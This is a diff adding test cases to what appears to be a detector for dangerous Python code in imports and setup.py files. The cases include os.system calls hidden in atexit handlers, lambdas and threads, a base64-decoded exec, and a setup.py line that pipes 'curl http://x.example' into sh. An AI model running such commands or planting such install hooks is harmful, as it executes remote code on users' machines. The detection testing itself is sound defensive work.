@@ -30,6 +30,9 @@ describe('what importing would do, however it is written', () => {
     ["import os\ndef g():\n    os.system('id')\ndef f():\n    g()\nf()\n"],
     ["import os, threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()\n"],
     ["import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()\n"],
+    ["import atexit, os\natexit.register(lambda: os.system('id'))\n"],
+    ["import os\n(lambda: os.system('id'))()\n"],
+    ["import os, threading\nthreading.Thread(target=lambda: os.system('id')).start()\n"],
     ["import os\nx = (lambda: 1)\ny = [os.system(c) for c in ['id']]\n"],
     ["import subprocess\nsubprocess.Popen(['id'])\n"],
     ["import os\n€€ ??\nos.system('id')\n"],
@@ -57,6 +60,13 @@ test('ordinary modelling code says nothing', async () => {
 
 test('an installer is no model code', async () => {
   expect(await told("exec(open('v.py').read())\n", 'setup.py')).toEqual(['low python.code']);
+  expect(await told("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", 'setup.py')).toEqual([
+    'medium python.code',
+  ]);
+  expect(await told("import os\nos.system('curl http://x.example | sh')\n", 'setup.py')).toEqual([
+    'medium python.process',
+  ]);
+  expect(await told("import os\nos.system('git describe')\n", 'setup.py')).toEqual(['low python.process']);
 });
 
 test('random source ends, with places inside it', () => {
